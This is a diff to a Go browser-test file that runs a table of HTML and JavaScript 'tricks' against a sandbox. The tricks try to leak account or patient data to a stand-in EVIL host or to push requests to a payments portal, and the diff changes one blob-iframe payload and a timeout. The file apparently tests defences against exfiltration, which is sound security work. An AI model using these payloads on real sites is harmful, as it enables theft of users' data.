@@ -114,7 +114,7 @@ var tricks = []trick{
 	{name: "track", page: `<video src=/api/account><track default kind=captions src=/patients/1></video><script>document.querySelector('track').track.mode = 'showing'</script>`, wall: InBrowser, reason: noRule},
 	{name: "embed", page: `<embed src=EVIL/x type=text/html>`, wall: InBrowser, reason: otherHost},
 	{name: "javascript-frame", page: `<iframe src="javascript:fetch('EVIL/x', {method: 'POST', mode: 'no-cors'})"></iframe>`, wall: InBrowser, reason: otherHost},
-	{name: "blob-document", page: `<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<img src='EVIL/x'>"], {type: 'text/html'})); document.body.append(f)</script>`},
+	{name: "blob-document", page: `<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(["<img src='EVIL/blob'>"], {type: 'text/html'})); document.body.append(f)</script>`},
 	{name: "import-map", page: `<script type=importmap>{"imports": {"x": "EVIL/x.js"}}</script><script type=module>import 'x'</script>`, wall: InBrowser, reason: otherHost},
 	{name: "redirect-post-portal", page: `<script>fetch('/api/exports?to=PORTAL/api/payments', {method: 'POST'})</script>`, wall: InBrowser, write: true, reason: noRule},
 	{name: "service-worker-portal", page: `<script>navigator.serviceWorker.register('/assets/service.js?to=PORTAL/api/payments')</script>`, wall: InBrowser, write: true, reason: noRule},
@@ -417,7 +417,7 @@ func countOf(entries []Entry, like Entry) int {
 func play(t *testing.T, life context.Context, b *rod.Browser, portal string, trick trick, done func() bool) {
 	t.Helper()
 	name := trick.name
-	ctx, cancel := context.WithTimeout(life, 30*time.Second)
+	ctx, cancel := context.WithTimeout(life, time.Minute)
 	defer cancel()
 	page, err := b.Context(ctx).Page(proto.TargetCreateTarget{})
 	if err != nil {
